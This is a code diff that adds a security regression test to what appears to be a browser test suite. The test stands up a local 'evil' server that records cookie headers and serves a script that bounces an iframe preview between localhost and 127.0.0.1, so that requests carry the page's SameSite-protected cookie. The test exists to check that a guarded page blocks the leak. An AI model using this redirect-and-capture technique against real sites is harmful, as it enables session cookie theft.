@@ -23,6 +23,12 @@ before(async () => {
 });
 after(() => stage.close());
 
+/** A server on this machine, for as long as an attack takes. */
+function serve(fetch: (request: Request) => Response) {
+  const server = Bun.serve({ hostname: "0.0.0.0", port: 0, fetch });
+  return { port: server.port, [Symbol.dispose]: () => void server.stop(true) };
+}
+
 /** All that a person reads or hears of a page. */
 const texts = (on: Page): Promise<string[]> =>
   on.evaluate(() => {
@@ -93,6 +99,36 @@ attack("runs, loads or hides something in the file of an exported thread", async
   const hits = await naive.evaluate(() => (window as unknown as { hits?: string[] }).hits ?? []);
   const isHidden = (await texts(naive)).some((text) => hiding.test(text));
   return hits.length > 0 || stage.naive.loaded.length > loadedBefore || isHidden;
+});
+
+attack("learns the page's cookie by a preview that leads to a server at the page's own host", async (guarded) => {
+  const cookies: string[] = [];
+  using evil = serve(({ headers }) => {
+    cookies.push(headers.get("cookie") ?? "");
+    const port = evil.port;
+    // At its own host it first leads to the page's; there, what it asks for counts as of the page's site.
+    const there = `if (location.hostname === "localhost") location = "http://127.0.0.1:${port}/";
+      else fetch("/again").then(() => fetch("/done"));`;
+    return new Response(`<script>${there}</script>`, { headers: { "content-type": "text/html" } });
+  });
+  using careless = serve(
+    () =>
+      new Response("<p>A page", {
+        headers: { "set-cookie": "quire=secret; HttpOnly; SameSite=Strict", "content-type": "text/html" },
+      }),
+  );
+  const on = guarded ? page : naive;
+  if (!guarded) await naive.goto(`http://127.0.0.1:${careless.port}/`);
+  await on.evaluate((address) => {
+    const frame = Object.assign(document.createElement("iframe"), { src: address });
+    frame.setAttribute("sandbox", "allow-scripts allow-same-origin allow-forms allow-popups");
+    document.body.append(frame);
+    document.addEventListener("securitypolicyviolation", () => document.body.setAttribute("data-held", ""));
+  }, `http://localhost:${evil.port}/`);
+  const isHeld = () => on.locator("body[data-held]").count();
+  await eventually(async () => cookies.length >= 4 || (await isHeld()) > 0, { what: "the end of the way" });
+  await on.evaluate(() => document.querySelector("body > iframe")?.remove());
+  return cookies.some((cookie) => cookie !== "");
 });
 
 attack("tells a stranger that a thread is read, by a picture in it", async (guarded) => {
